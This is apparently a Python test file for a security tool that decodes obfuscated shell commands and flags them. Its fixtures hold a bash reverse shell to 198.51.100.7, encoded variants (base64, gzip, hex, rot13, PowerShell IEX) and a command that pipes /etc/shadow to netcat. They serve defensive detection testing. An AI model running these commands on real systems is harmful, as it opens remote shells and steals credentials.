# SPDX-License-Identifier: Apache-2.0
"""Encoded commands are read, nested and compressed; paths, digests and noise are not; hostile input costs little."""

from __future__ import annotations

import base64
import gzip
import random
import zlib

import polars as pl
import pytest
from memory_events import MemoryEvents

from headwater.detect import registry
from headwater.detect.commands import suspicious, traits
from headwater.detect.decoding import DEPTH, FORMS, decoded, innermost
from headwater.detect.detectors import shell_history
from headwater.detect.web_requests import command_in
from headwater.model.kinds import EventKind, Severity
from headwater.model.ports import Settings

SHELL = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"


def b64(data: bytes | str) -> str:
    return base64.b64encode(data if isinstance(data, bytes) else data.encode()).decode()


@pytest.mark.parametrize(
    ("text", "how", "plain"),
    [
        (f"echo {b64(SHELL)} | base64 -d | bash", "base64", SHELL),
        (f"powershell -nop -w hidden -enc {b64(SHELL.encode('utf-16-le'))}", "base64", SHELL),
        (f"echo {b64(b64(SHELL))}|base64 -d|base64 -d|sh", "base64+base64", SHELL),
        (f"echo {b64(gzip.compress(SHELL.encode()))}|base64 -d|gunzip|sh", "base64+gzip", SHELL),
        (f"[Convert]::FromBase64String('{b64(zlib.compress(SHELL.encode())[2:-4])}')", "base64+deflate", SHELL),
        ("printf '" + "".join(f"\\x{c:02x}" for c in SHELL.encode()) + "' | sh", "hex", SHELL),
        (f"echo {SHELL.encode().hex()} | xxd -r -p | sh", "hex", SHELL),
        ("$'\\057\\142\\151\\156\\057\\163\\150' -c id", "octal", "/bin/sh"),
        ("c=%63%61%74%20%2fetc%2fpasswd", "url", "c=cat /etc/passwd"),
        ("IEX ([char]73+[char]69+[char]88+[char]32+[char]36)", "codes", "IEX $"),
        ("echo 'hsab/nib/' | rev", "reversed", "/bin/bash"),
        ("echo 'jtrg uggc://rivy' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", "rot13", "wget http://evil"),
        ("&('ne'+'w-'+'it'+'em') x", "joined", "&'new-item' x"),
        ("I`E`X (\"{1}{0}\" -f 'ring','DownloadSt')", "joined", "IEX 'DownloadString'"),
    ],
)  # fmt: skip
def test_encoded_text_is_read(text: str, how: str, plain: str) -> None:
    assert [(f.how, f.text) for f in innermost(text)] == [(how, plain)]


@pytest.mark.parametrize(
    "text",
    [
        "ls /usr/share/doc/libglib2.0-0/examples/something/else/again",
        "docker run -d 3f4e8a9b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f",
        "git clone https://github.com/OrganizationName/RepositoryName.git",
        "sha256sum -c 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "echo SHA256:uNiVztksCsDhcc0u9e8BgrJXVGLDUxgbRz5lrQWkL8I",
        "systemctl restart systemd-networkd-wait-online.service",
        "tar czf /backup/site-20260301.tar.gz /var/www && ls -la --color=auto",
        "kubectl exec deployment-web-7d9c5b8f6d-x2x9z -- env",
    ],
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert decoded(text) == ()


def test_place_of_the_encoded_piece_is_told() -> None:
    text = f"echo {b64(SHELL)} | base64 -d | bash"
    (form,) = decoded(text)
    assert text[form.start : form.end] == b64(SHELL)


def test_hostile_text_is_bounded() -> None:
    deep = SHELL
    for _ in range(12):
        deep = b64(deep)
    assert 0 < len(decoded(deep)) <= DEPTH
    assert decoded(b64(gzip.compress(bytes(50 << 20)))) == ()  # a bomb of zeros
    bomb = b64(gzip.compress(b"cat /etc/shadow;" * (4 << 20)))
    assert all(len(f.text) <= 256 << 10 for f in decoded(bomb))
    many = " ".join(b64(f"cat /etc/shadow {n}") for n in range(500))
    assert len(decoded(many)) == FORMS
    dice = random.Random(3)
    alphabet = "abcXYZ019+/='\"`\\x%({})[char]-e\n \ud800\u53e3"
    for _ in range(200):
        decoded("".join(dice.choice(alphabet) for _ in range(400)))


def test_trait_behind_the_encoding_counts_and_is_shown() -> None:
    hidden = f"echo {b64('cat /etc/shadow | nc 198.51.100.7 9001')} > /opt/app/x.conf"
    assert {t.name for t in traits(hidden)} >= {"encoded-command", "credentials"}
    frame = pl.DataFrame({"c": [hidden, "ls -la", f"echo {b64('just some words that are harmless')}"]})
    assert list(suspicious(frame, "c")) == [hidden]
    events = MemoryEvents().say(
        "linux.history",
        "p1!/root/.bash_history",
        (EventKind.COMMAND_HISTORY, None, {"user": "root", "command_line": hidden}),
    )
    found = list(registry.run(shell_history, events, Settings()))
    assert any("cat /etc/shadow | nc 198.51.100.7 9001" in f.text.en for f in found)
    assert any(f.severity in (Severity.MEDIUM, Severity.HIGH) for f in found)


def test_nested_web_parameter_is_a_command() -> None:
    twice = command_in("/a.php", "z0=" + b64(b64("cat /etc/passwd")))
    assert twice is not None
    assert (twice.command, twice.encoding) == ("cat /etc/passwd", "base64+base64")
    assert command_in("/search", "q=OrganizationNameRepositoryName") is None
    assert command_in("/img", "t=" + b64("2026-03-01 some token of a session")) is None
